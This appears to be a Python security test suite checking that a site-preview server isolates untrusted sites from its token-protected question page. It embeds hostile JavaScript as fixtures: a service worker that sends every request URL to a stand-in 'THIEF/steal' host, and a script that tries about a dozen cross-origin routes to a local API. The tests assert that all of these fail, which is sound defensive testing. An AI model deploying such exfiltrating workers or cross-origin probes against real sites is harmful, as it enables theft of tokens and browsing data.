"""What a stranger's site can do to the preview that shows it, to later previews at its address, and to the page on which a
user asks: its service workers and scripts, those of other servers of this computer, and workers that are left over."""
import json, os, signal, socket, subprocess, threading, unittest, urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

import papers
import sites
from chromium import PATIENCE

# Answers pages itself, and tells THIEF of every address that it sees.
WORKER = """
self.addEventListener('install', (event) => event.waitUntil(self.skipWaiting()));
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (event) => {
  fetch('THIEF/steal?' + encodeURIComponent(event.request.url), { mode: 'no-cors' }).catch(() => {});
  if (new URL(event.request.url).pathname === '/planted') event.respondWith(new Response('planted'));
});
"""
REGISTER = """
window.results = null;
(async () => {
  const found = {};
  for (const [path, scope] of [['/worker.js', '/'], ['/deep/worker.js', '/deep/'], ['/service-worker.js', '/'],
      ['/assets/worker.js?x', '/assets/'], ['/.well-known/worker.js', '/.well-known/']]) {
    await navigator.serviceWorker.register(path, { scope }).catch(() => {});
  }
  // A worker that removes itself needs a moment.
  while ((await navigator.serviceWorker.getRegistrations()).length) await new Promise((done) => setTimeout(done, 50));
  found.planted = await fetch('/planted').then((response) => response.status);
  found.theft = await fetch('THIEF/steal?by-page', { mode: 'no-cors' }).then(() => 'sent', () => 'refused');
  window.results = found;
})();
"""
# Everything that a page can send to another origin, to TARGET.
ATTACK = """
window.results = null;
const later = (time, value) => new Promise((done) => setTimeout(() => done(value), time));
async function attack() {
  const found = {};
  const attempt = async (name, action) => {
    try { found[name] = await action(); } catch { found[name] = 'refused'; }
  };
  const added = (name, more) => {
    const element = Object.assign(document.createElement(name), more);
    const loaded = new Promise((done) => {
      element.addEventListener('load', () => done('loaded'));
      element.addEventListener('error', () => done('refused'));
    });
    document.body.append(element);
    return [element, loaded];
  };
  const opened = (object) => new Promise((done) => {
    object.addEventListener('open', () => done('opened'));
    object.addEventListener('error', () => done('refused'));
  });
  await attempt('read', async () => (await fetch('TARGET/')).text());
  await attempt('ask', async () => (await fetch('TARGET/api/begin', {
    method: 'POST', body: '{}', headers: { 'X-Skidmark-Token': '0'.repeat(32) } })).text());
  await attempt('blind', async () => {
    const response = await fetch('TARGET/api/begin', { method: 'POST', body: '{}', mode: 'no-cors', credentials: 'include' });
    return response.type === 'opaque' ? 'refused' : response.text();
  });
  await attempt('beacon', async () => { navigator.sendBeacon('TARGET/api/begin', '{}'); return 'refused'; });
  await attempt('script', () => added('script', { src: 'TARGET/ask.js' })[1]);
  await attempt('frame', async () => {
    const [frame] = added('iframe', { src: 'TARGET/', id: 'framed' });
    await later(1000);
    return frame.contentWindow.location.href;
  });
  await attempt('form', async () => {
    added('iframe', { name: 'posted' });
    const [form] = added('form', { action: 'TARGET/api/begin', method: 'post', enctype: 'text/plain', target: 'posted' });
    form.submit();
    await later(1000);
    return 'refused';
  });
  await attempt('worker', async () => { await navigator.serviceWorker.register('TARGET/ask.js'); return 'installed'; });
  await attempt('events', () => opened(new EventSource('TARGET/api/list')));
  await attempt('socket', () => opened(new WebSocket('TARGET/api/list'.replace('http', 'ws'))));
  await attempt('window', async () => {
    // The page lets go of the window that opened it.
    while (!window.other.closed) await later(50);
    return window.other.location.hash || 'refused';
  });
  window.results = found;
}
document.querySelector('button').addEventListener('click', () => {
  window.other = open('TARGET/', 'other');
  attack();
});
"""
PAGE = "<!doctype html><title>A stranger's</title><body><button>Go</button><script src='/attack.js'></script>"
ATTACKS = {"frame", "read", "ask", "blind", "beacon", "script", "form", "worker", "events", "socket", "window"}


def free_port():
    """A port that a preview may have: the system gives others to those who ask for none."""
    for port in range(20_000, 30_000):
        with socket.socket() as tried:
            if tried.connect_ex(("127.0.0.1", port)) != 0:
                return port
    raise AssertionError("no port is free")


class Stranger:
    """A server of someone else: it serves files, and remembers what it was asked for."""

    def __init__(self, port=0):
        stranger = self
        self.files, self.asked = {}, []

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *_):
                pass

            def do_GET(self):
                stranger.asked.append(self.path)
                body = stranger.files.get(self.path.split("?")[0])
                self.send_response(404 if body is None else 200)
                self.send_header("Content-Type", "text/javascript" if self.path.endswith(".js") else "text/html")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Cache-Control", "no-store")
                self.end_headers()
                self.wfile.write((body or "").encode())

        self.server = ThreadingHTTPServer(("127.0.0.1", port), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_address[1]
        self.origin = f"http://127.0.0.1:{self.port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stolen(self):
        return [path for path in self.asked if path.startswith("/steal")]

    def close(self):
        self.server.shutdown()
        self.server.server_close()


class StrangerTests(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.site = papers.folder() / "strangers-demo"
        sites.build_demo(cls.site)
        # The widest policy that a site can ask its host for.
        headers = cls.site / "templates/site/headers.txt.liquid"
        headers.parent.mkdir(parents=True)
        headers.write_text("/*\n  Content-Security-Policy: default-src * 'unsafe-inline'\n  Service-Worker-Allowed: /\n")

    def setUp(self):
        self.thief = Stranger()
        self.addCleanup(self.thief.close)
        self.browser = papers.chromium()
        self.addCleanup(self.leave)

    def leave(self):
        """Closes other windows, and forgets what origins of this test have stored."""
        driver = self.browser.driver
        for window in driver.window_handles[1:]:
            driver.switch_to.window(window)
            driver.close()
        driver.switch_to.window(driver.window_handles[0])
        driver.get("about:blank")

    def put(self, name, text):
        """A file of the site, as its templates could write it."""
        path = self.site / "output" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)

    def serve(self, *options):
        process = subprocess.Popen(
            [os.environ["SKIDMARK_PROGRAM"], "serve", "--site", str(self.site), "--json", *options, *sites.NOW],
            stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
            env={"PATH": os.environ["PATH"], "HOME": "/nonexistent", "TZ": "UTC"})

        def stop():
            self.leave()
            process.send_signal(signal.SIGINT)
            status = process.wait(PATIENCE)
            process.stdout.close()
            self.assertEqual(status, 0)

        self.addCleanup(stop)
        told = json.loads(process.stdout.readline())
        return told["address"], told["ask"]

    def wait(self, holds):
        WebDriverWait(self.browser.driver, PATIENCE, 0.05).until(lambda _: holds())

    def open_ask(self, address):
        self.browser.driver.get("about:blank")
        self.assertEqual(self.browser.open(address), [])
        self.wait(lambda: self.browser.run("return document.querySelectorAll('#league option').length") == 2)

    def conversations(self, ask):
        origin, token = ask.split("/#")
        request = urllib.request.Request(f"{origin}/api/list", b"{}", {"X-Skidmark-Token": token})
        return json.load(urllib.request.urlopen(request))

    def results(self):
        self.wait(lambda: self.browser.run("return window.results !== null"))
        return self.browser.run("return window.results")

    def test_a_site_gets_no_service_worker_and_no_policy_of_its_own(self):
        worker = WORKER.replace("THIEF", self.thief.origin)
        for name in ("worker.js", "deep/worker.js", "service-worker.js", "assets/worker.js", ".well-known/worker.js"):
            self.put(name, worker)
        self.put("attack.js", REGISTER.replace("THIEF", self.thief.origin))
        self.put("stranger.html", PAGE)
        preview, ask = self.serve()
        # The build may have written its own since.
        self.put("service-worker.js", worker)
        self.browser.driver.get(f"{preview}stranger.html")
        self.assertEqual(self.results(), {"planted": 404, "theft": "refused"})
        self.open_ask(ask)
        self.assertIsNone(self.browser.run("return navigator.serviceWorker.controller"))
        self.browser.driver.get(preview)
        self.assertEqual(self.browser.run("return fetch('/planted').then((response) => response.status)"), 404)
        self.assertEqual(self.thief.stolen(), [])

    def test_a_worker_of_an_earlier_run_goes_away_and_never_sees_the_token(self):
        earlier = Stranger(free_port())
        earlier.files["/service-worker.js"] = WORKER.replace("THIEF", self.thief.origin)
        earlier.files["/attack.js"] = ""
        earlier.files["/"] = PAGE
        driver = self.browser.driver
        driver.get(f"{earlier.origin}/")
        self.browser.run("navigator.serviceWorker.register('/service-worker.js')")
        self.wait(lambda: self.browser.run("return navigator.serviceWorker.controller !== null"))
        self.assertEqual(self.browser.run("return fetch('/planted').then((response) => response.text())"), "planted")
        driver.get(f"{earlier.origin}/#behind")
        driver.get("about:blank")
        driver.get(f"{earlier.origin}/#behind")
        # What is behind a `#` reaches no server, but a worker of the same origin may see it: so the page has another one.
        self.wait(lambda: self.thief.stolen())
        earlier.close()
        self.thief.asked.clear()
        preview, ask = self.serve(f"--port={earlier.port}")
        self.assertEqual(preview, f"{earlier.origin}/")
        token = ask.split("#")[1]
        self.open_ask(ask)
        driver.get(preview)
        # The browser looks for a newer one, and finds one that removes itself.
        count = "return navigator.serviceWorker.getRegistrations().then((all) => all.length)"
        self.wait(lambda: self.browser.run(count) == 0)
        driver.get(preview)
        self.assertIsNone(self.browser.run("return navigator.serviceWorker.controller"))
        self.assertEqual(self.browser.run("return fetch('/planted').then((response) => response.status)"), 404)
        self.open_ask(ask)
        self.assertFalse([path for path in self.thief.asked if token in path])

    def attack(self, page, ask):
        """Runs everything from a page, and checks that nothing came of it."""
        origin = ask.split("/#")[0]
        self.browser.driver.get(page)
        self.browser.driver.find_element(By.CSS_SELECTOR, "button").click()
        self.assertEqual(self.results(), dict.fromkeys(ATTACKS, "refused"))
        frame = self.browser.driver.find_element(By.ID, "framed")
        self.browser.driver.switch_to.frame(frame)
        self.assertEqual(self.browser.driver.find_elements(By.CSS_SELECTOR, "main"), [])
        self.browser.driver.switch_to.default_content()
        self.assertEqual(self.conversations(ask), [])
        self.leave()
        self.open_ask(ask)
        self.assertEqual(self.browser.run("return [location.origin, window.opener]"), [origin, None])

    def test_pages_of_the_preview_cannot_reach_the_page_of_questions(self):
        self.put("attack.js", "")
        self.put("stranger.html", PAGE)
        preview, ask = self.serve()
        self.assertNotEqual(ask.split("/#")[0] + "/", preview)
        self.put("attack.js", ATTACK.replace("TARGET", ask.split("/#")[0]))
        self.attack(f"{preview}stranger.html", ask)

    def test_pages_of_other_servers_reach_neither(self):
        preview, ask = self.serve()
        self.thief.files["/"] = PAGE
        for target in (ask.split("/#")[0], preview.rstrip("/")):
            self.thief.files["/attack.js"] = ATTACK.replace("TARGET", target)
            self.attack(f"{self.thief.origin}/", ask)

    def test_the_way_to_the_paper_takes_nothing_along(self):
        preview, ask = self.serve()
        self.open_ask(ask)
        self.browser.run("document.getElementById('paper').click()")
        self.wait(lambda: self.browser.driver.current_url == preview)
        self.assertEqual(self.browser.run("return [document.referrer, window.opener, window.name]"), ["", None, ""])


if __name__ == "__main__":
    unittest.main()
